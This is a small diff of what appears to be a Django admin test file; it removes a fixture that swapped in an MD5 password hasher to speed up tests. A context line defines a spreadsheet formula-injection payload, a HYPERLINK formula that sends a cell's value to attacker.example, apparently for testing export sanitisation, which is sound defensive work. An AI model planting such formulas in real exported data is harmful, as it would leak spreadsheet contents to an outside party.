@@ -45,13 +45,6 @@ REGISTERED_MODELS = sorted(admin.site._registry, key=lambda model: model._meta.l
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
 
 
-@pytest.fixture(autouse=True)
-def fast_password_hashing(settings):
-    # The demo data and these tests create several users; the production hasher spends about
-    # a third of a second on each password on purpose.
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-
-
 def admin_url(model, view, *args):
     return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)
 
